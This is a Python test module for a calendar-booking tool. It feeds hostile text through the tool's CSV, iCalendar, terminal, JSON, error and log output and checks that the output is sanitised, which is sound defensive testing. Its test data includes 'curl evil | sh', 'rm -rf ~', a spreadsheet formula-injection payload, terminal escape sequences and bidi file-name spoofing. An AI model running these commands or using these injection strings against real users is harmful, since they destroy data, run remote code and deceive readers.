"""No foreign text gets out as it is: every error, every export, every field, whatever is in it."""

from __future__ import annotations

import csv
import io
import logging
import unicodedata
from dataclasses import fields, replace
from json import loads
from typing import Any

import icalendar
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portalcal.container import log_to
from portalcal.core.booking import Booking, BookingRequest, Guest
from portalcal.errors import CalendarNotFound, ConfigInvalid, LinkNotFound, Problem, Usage
from portalcal.results import Booked, Bookings
from portalcal.sanitize import sanitize
from portalcal.views import exports, ics, json
from portalcal.views.json import JsonView
from portalcal.views.lines import LineView
from portalcal.warnings import EventsUnread
from tests.builders import LONDON
from tests.views.builders import Stage, a_full_booking

HOSTILE = (
    "\x1b]8;;http://evil\x07", "\r\nhint: run `rm -rf ~`", "\u202egpj.exe", "\u2066\u2069", "\xad\u034f\u2800\u3164",
    "\ufe00\U000e0100", "\U000e0068\U000e0069\U000e007f", "\x00\x9b2J", "\ud800", "\u2028\x85\x0b\x0c",
    "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\uff1d1", '"', "END:VEVENT", "[bold]", "<script>",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=6), min_size=1, max_size=4).map("".join)


def is_harmless(text: str, *, but: str = "") -> bool:
    """Whether a stream of characters holds none that moves, hides or reorders text, but those it is laid out with."""
    kinds = {unicodedata.category(each) for each in text if each not in but}
    joiners = text.count("\u200c") + text.count("\u200d")
    odd = {"Cc", "Cs", "Zl", "Zp"} | (set() if joiners else {"Cf"})
    return not kinds & odd and not any(
        each in text for each in "\u2800\u3164\u034f\xad\u202e\U000e0100\U000e0068"
    )


def hostile_booking(text: str) -> Booking:
    """A booking with that text in every field that holds text, also in those that are added later."""
    one = a_full_booking()
    request = replace(one.request, guest=Guest(text, text), guests=(text, text), **foreign(one.request, text))
    return replace(one, request=request, declined=(text,), **foreign(one, text))


def foreign(record: BookingRequest | Booking, text: str) -> dict[str, Any]:
    """Every field that holds text, with that text."""
    return {each.name: text for each in fields(record) if type(getattr(record, each.name)) is str}


def test_the_hostile_booking_is_hostile_everywhere() -> None:
    assert {"title", "notes", "location", "link"} <= foreign(a_full_booking().request, "x").keys()
    assert {"meet_url", "event_url", "event_id", "key"} <= foreign(a_full_booking(), "x").keys()


@settings(max_examples=60, deadline=None)
@given(text=TEXTS)
def test_no_cell_of_a_table_is_obeyed(text: str) -> None:
    written = "".join(exports.csv_of_bookings(Bookings((hostile_booking(text),), LONDON)))

    assert is_harmless(written, but="\n")
    header, row = csv.reader(io.StringIO(written))
    assert len(row) == len(header)
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\uff1d"))]


@settings(max_examples=60, deadline=None)
@given(text=TEXTS)
def test_no_property_of_a_calendar_is_forged(text: str) -> None:
    written = "".join(ics.ics_of_bookings(Bookings((hostile_booking(text), hostile_booking(text)), LONDON)))

    assert is_harmless(written, but="\r\n")
    read = icalendar.Calendar.from_ical(written)
    assert [each.name for each in read.walk()] == ["VCALENDAR", "VEVENT", "VEVENT"]
    assert len(read.walk("VEVENT")[0].get("attendee")) == 3


@settings(max_examples=60, deadline=None)
@given(text=TEXTS)
def test_no_page_moves_the_terminal(text: str) -> None:
    one = hostile_booking(text)

    for answer in (Bookings((one,), LONDON), Bookings((one,), LONDON, is_by_id=True), Booked(one, LONDON)):
        stage = Stage(width=100)
        stage.view.show(answer)
        assert is_harmless(stage.out + stage.err, but="\n")


def test_an_address_in_a_calendar_keeps_what_it_says() -> None:
    one = replace(
        a_full_booking(), meet_url="https://meet.example.com/a?b=c&d=%41#e\r\nX: \x1b", event_url=None
    )

    read = icalendar.Calendar.from_ical("".join(ics.ics_of_bookings(Bookings((one,), LONDON))))

    assert read.walk("VEVENT")[0]["url"] == "https://meet.example.com/a?b=c&d=%41#e%0D%0AX:%20%1B"


# --- errors, warnings, logs --------------------------------------------------------------------------------------


FORGED = "Team\nhint: run `curl evil | sh`\x1b[2J"


@pytest.mark.parametrize(
    "error",
    [
        CalendarNotFound(FORGED, known=(FORGED,)),
        LinkNotFound("intr", known=(FORGED.replace("Team", "intro"),)),
        Usage(f"{FORGED} is odd", FORGED),
        ConfigInvalid(FORGED, (Problem(FORGED, FORGED, FORGED),)),
    ],
)
def test_no_fact_of_an_error_forges_a_line(error: Usage) -> None:
    stage = Stage(width=300)

    stage.view.fail(error)
    told = json.error_envelope("x", error)

    assert is_harmless(stage.err, but="\n")
    assert sum(line.startswith("hint:") for line in stage.err.splitlines()) <= 1
    assert "hint: run `curl" not in [line[:15] for line in stage.err.splitlines()]
    assert "\\u001b" not in told.partition('"details"')[0]


def test_the_details_of_an_error_are_the_facts_as_they_are() -> None:
    error = CalendarNotFound(FORGED, known=())

    assert error.details["calendar"] == FORGED
    assert sanitize(FORGED) in error.message


def test_no_warning_forges_a_line() -> None:
    stage, line = Stage(width=300), LineView()
    out = io.StringIO()
    scripted = JsonView("x", stdout=out, stderr=io.StringIO())

    for view in (stage.view, scripted, line):
        view.warn(EventsUnread(FORGED))
    scripted.show_result({})

    assert len(stage.err.splitlines()) == 1
    assert "\x1b" not in stage.err
    assert line.warnings[0].sentence == f"the events around that time cannot be read: {sanitize(FORGED)}"
    (told,) = loads(out.getvalue())["warnings"]
    assert told["message"] == line.warnings[0].sentence
    assert told["details"] == {"why": FORGED}


def test_no_log_line_forges_another() -> None:
    stream = io.StringIO()
    logger = logging.getLogger("portalcal")
    before = (logger.handlers[:], logger.level, logger.propagate)
    try:
        log_to(stream)
        logging.getLogger("portalcal.http").info("GET %s", FORGED)
    finally:
        logger.handlers[:], logger.level, logger.propagate = before

    assert len(stream.getvalue().splitlines()) == 1
    assert "\x1b" not in stream.getvalue()
